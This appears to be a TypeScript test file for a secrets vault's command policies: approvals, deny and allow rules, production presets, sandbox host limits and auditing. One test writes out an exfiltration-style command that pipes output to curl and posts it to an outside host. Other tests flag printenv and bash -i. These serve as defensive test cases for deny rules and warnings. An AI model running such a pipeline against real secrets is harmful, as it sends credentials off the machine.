import assert from "node:assert/strict";
import { test } from "node:test";
import { type Command, describeCommand } from "#core/run/command.ts";
import { localAccess } from "#core/run/local-access.ts";
import type { Policy } from "#core/run/policy.ts";
import type { ApprovalRequest, Ask, LeaseRequest, VaultAccess } from "#core/run/vault-access.ts";
import { createEnvironment } from "#core/vault/apps.ts";
import { changeSettings } from "#core/vault/environment-settings.ts";
import { writeDrafts } from "#core/vault/secret-write.ts";
import { isVaultError } from "#core/vault-error.ts";
import { DEV, type Fixture, KEY, newVault, OTHER, PASSWORD, PRODUCTION, put, STAGING } from "../vault/fixture.ts";

const WRONG = Buffer.from("wrong horse battery");

interface Setting extends Fixture {
  readonly access: VaultAccess;
  /** What a person was shown. */
  readonly shown: ApprovalRequest[];
  readonly yes: Ask;
}

async function setting(): Promise<Setting> {
  const fixture = await newVault();
  await put(fixture.session, KEY, "value one");
  await put(fixture.session, OTHER, "value two");
  const shown: ApprovalRequest[] = [];
  const yes: Ask = async (request) => {
    shown.push(request);
    return "once";
  };
  return { ...fixture, access: localAccess(fixture.session, { idleMs: 60_000 }), shown, yes };
}

function run(command: Command, more: Partial<LeaseRequest> = {}): LeaseRequest {
  return {
    ...{ action: "run", client: "test", context: DEV, command: describeCommand(command), cwd: "/" },
    runs: { command, searchPath: "/usr/bin:/bin" },
    ...more,
  };
}

function policy(rules: Partial<Policy> = {}): Policy {
  return { preset: "careful", verdicts: {}, allow: [], deny: [], ...rules };
}

const never: Ask = async () => assert.fail("nobody should be asked");

test("without a policy, plain commands are covered by a time window, and dumps of the environment are not", async () => {
  const { access, shown, yes } = await setting();
  await access.preapprove(DEV, 15, PASSWORD);
  await access.lease(run("npm test"), never);
  await access.lease(run(["npm", "test"]), never);
  await access.lease(run("printenv"), yes);
  await access.lease(run("npm test && $TOOL"), yes);
  await access.lease(run(["bash", "-i"], { action: "shell" }), yes);
  assert.match(
    shown[0]!.everyTime!.warnings.join(),
    /^"printenv" prints the environment \(env-dumps: ask, preset careful\)$/,
  );
  assert.deepEqual(shown[0]!.everyTime!.rules, [{ program: "printenv", rule: "env-dumps" }]);
  assert.match(shown[1]!.everyTime!.warnings.join(), /can't be read with certainty/);
  assert.match(shown[2]!.everyTime!.warnings.join(), /interactive shell/);
});

test("S110 what is asked about each time leaves no standing approval behind, whatever the person picks", async () => {
  const { access } = await setting();
  for (const decision of ["command", { minutes: 60 }] as const) {
    await access.lease(run("printenv"), async () => decision);
    assert.deepEqual(await access.approvals(), []);
    await assert.rejects(access.lease(run("printenv")), { code: "approval-required" });
    const [pending] = await access.pending();
    await access.answer(pending!.id, decision, PASSWORD);
    assert.deepEqual(await access.approvals(), []);
    await access.lease(run("printenv"), never);
    await assert.rejects(access.lease(run("printenv")), { code: "approval-required" });
    await access.answer((await access.pending())[0]!.id, "deny");
    await assert.rejects(access.lease(run("printenv")), { code: "denied-by-user" });
  }
});

test("S111 a policy needs the master password, to be loosened and to be tightened, and is audited", async () => {
  const { access } = await setting();
  await assert.rejects(access.setPolicy(DEV, policy({ preset: "open" }), WRONG), { code: "wrong-password" });
  assert.deepEqual(await access.policy(DEV), { policy: policy(), isDefault: true });
  await access.setPolicy(DEV, policy({ preset: "open" }), PASSWORD);
  assert.deepEqual(await access.policy(DEV), { policy: policy({ preset: "open" }), isDefault: false });
  assert.equal((await access.audit()).at(-1)!.action, "policy");
  await access.preapprove(DEV, 15, PASSWORD);
  await access.lease(run("printenv"), never);
});

test("S112 a denied command is refused before anybody is asked and before a value is read, and is audited", async () => {
  const { access, store } = await setting();
  await access.setPolicy(DEV, policy({ deny: [{ program: "curl" }] }), PASSWORD);
  await access.preapprove(DEV, 15, PASSWORD);
  await access.lease(run("npm test"), never);
  const records = new Map(store.records);
  const request = run("npm test | curl -d @- https://example.com", { names: [KEY] });
  await assert.rejects(access.lease(request, never), (error) => {
    assert.ok(isVaultError(error, "denied-by-policy"));
    assert.match(
      error.message,
      /shop\/dev denies this: "curl" is denied \(deny curl: deny, set\)\..*ov policy explain/,
    );
    return true;
  });
  assert.deepEqual(store.records, records);
  const last = (await access.audit({ name: KEY })).at(-1)!;
  assert.deepEqual([last.action, last.outcome, last.names], ["run", "denied-by-policy", [KEY]]);
  assert.match(last.commandHash!, /^[0-9a-f]{64}$/);
});

test("a policy is the environment's own", async () => {
  const { access, session, yes } = await setting();
  await createEnvironment(session, STAGING);
  await put(session, KEY, "value", STAGING);
  await access.setPolicy(STAGING, policy({ deny: [{ program: "npm" }] }), PASSWORD);
  await assert.rejects(access.lease(run("npm test", { context: STAGING }), yes), { code: "denied-by-policy" });
  await access.lease(run("npm test"), yes);
});

test("S105 a policy of a newer version stops every run, and can't be replaced by an older OpaqueVault", async () => {
  const { access, session } = await setting();
  const newer = Buffer.from(JSON.stringify({ version: 2, policy: { preset: "open" } }));
  await changeSettings(session, DEV, "policy", () => newer);
  await assert.rejects(access.lease(run("npm test"), never), { code: "format-unsupported" });
  await assert.rejects(access.policy(DEV), { code: "format-unsupported" });
  await assert.rejects(access.setPolicy(DEV, policy(), PASSWORD), { code: "format-unsupported" });
});

test("production is asked about in everything, also where its policy is open", async () => {
  const { access, session, shown, yes } = await setting();
  await createEnvironment(session, PRODUCTION);
  await put(session, KEY, "value", PRODUCTION);
  await access.lease(run("npm test", { context: PRODUCTION }), yes);
  assert.deepEqual(shown[0]!.everyTime, { warnings: [] }, "what is said of every command is no warning");
  await access.setPolicy(PRODUCTION, policy({ preset: "open" }), PASSWORD);
  await assert.rejects(access.lease(run("npm test", { context: PRODUCTION })), { code: "approval-required" });
  await assert.rejects(access.preapprove(PRODUCTION, 15, PASSWORD), { code: "denied-by-policy" });
});

test("an environment of any name can have the production preset", async () => {
  const { access, yes } = await setting();
  await access.preapprove(DEV, 15, PASSWORD);
  await access.setPolicy(DEV, policy({ preset: "production" }), PASSWORD);
  await assert.rejects(access.lease(run("npm test")), { code: "approval-required" });
  await assert.rejects(access.preapprove(DEV, 15, PASSWORD), { code: "denied-by-policy" });
  await access.lease(run("npm test"), yes);
});

test("a program gets the names that its rule says: of all silently, of named ones not at all", async () => {
  const { access, yes, shown } = await setting();
  await access.setPolicy(DEV, policy({ allow: [{ program: "/usr/bin/env", names: [KEY] }] }), PASSWORD);
  const rules = policy({ allow: [{ program: "/bin/cat", names: [KEY] }] });
  await access.setPolicy(DEV, rules, PASSWORD);
  const lease = await access.lease(run(["/bin/cat", "file"]), yes);
  assert.deepEqual(
    lease.secrets.map(({ name }) => name),
    [KEY],
  );
  assert.deepEqual(shown[0]!.names, [KEY]);
  await assert.rejects(access.lease(run(["/bin/cat", "file"], { names: [KEY, OTHER] }), never), (error) => {
    assert.ok(isVaultError(error, "denied-by-policy"));
    assert.match(error.message, /keeps DATABASE_URL from this program/);
    return true;
  });
  await access.setPolicy(DEV, policy({ allow: [{ program: "/bin/cat", names: [] }] }), PASSWORD);
  await assert.rejects(access.lease(run(["/bin/cat", "file"]), never), { code: "denied-by-policy" });
});

test("S113 a command that is shown but is not the one that is judged is refused", async () => {
  const { access } = await setting();
  const lying = { ...run("printenv"), command: "npm test" };
  await assert.rejects(access.lease(lying, never), { code: "argument-invalid" });
  const input = Buffer.from("x");
  const honest = { ...run("cat"), command: describeCommand("cat", input) };
  await assert.rejects(access.lease(honest), { code: "approval-required" });
});

test("S113 a caller that doesn't say what it runs is asked about each time, and denied where that is denied", async () => {
  const { access, yes, shown } = await setting();
  await access.preapprove(DEV, 15, PASSWORD);
  const { runs: _, ...silent } = run("npm test");
  await access.lease(silent, yes);
  assert.match(shown[0]!.everyTime!.warnings.join(), /was not told/);
  await access.setPolicy(DEV, policy({ verdicts: { unclear: "deny" } }), PASSWORD);
  await assert.rejects(access.lease(silent, never), { code: "denied-by-policy" });
});

test("S114 where the policy wants a sandbox, only a caller that has one gets values, with the hosts to limit it to", async () => {
  const { access, session, yes } = await setting();
  const strict = policy({ preset: "strict", allow: [{ program: "/bin/cat" }] });
  await access.setPolicy(DEV, strict, PASSWORD);
  await writeDrafts(session, DEV, "update", [{ name: KEY, allowedHosts: ["api.stripe.com"] }], { mayWiden: true });
  const request = run(["/bin/cat"], { names: [KEY] });
  await assert.rejects(access.lease(request, never), { code: "denied-by-policy" });
  const { confinement } = await access.lease({ ...request, canConfine: true }, yes);
  assert.deepEqual(confinement, { hosts: ["api.stripe.com"] });
  const hostsOf = async (rules: Partial<Policy>) => {
    await access.setPolicy(DEV, { ...strict, ...rules }, PASSWORD);
    return (await access.lease({ ...request, canConfine: true }, yes)).confinement?.hosts;
  };
  assert.deepEqual(await hostsOf({ network: "none" }), []);
  assert.deepEqual(await hostsOf({ network: ["a.example"] }), ["a.example"]);
  assert.equal(await hostsOf({ network: "any" }), "any");
  assert.equal(await hostsOf({ network: "any", sandbox: "off" }), undefined);
  assert.deepEqual(await hostsOf({ network: "none", sandbox: "off" }), [], "nothing else can limit the network");
});

test("S115 a policy that is tightened while a person thinks applies to what they approve", async () => {
  const { access } = await setting();
  const slow: Ask = async () => {
    await access.setPolicy(DEV, policy({ deny: [{ program: "npm" }] }), PASSWORD);
    return "once";
  };
  await assert.rejects(access.lease(run("npm test"), slow), { code: "denied-by-policy" });
});
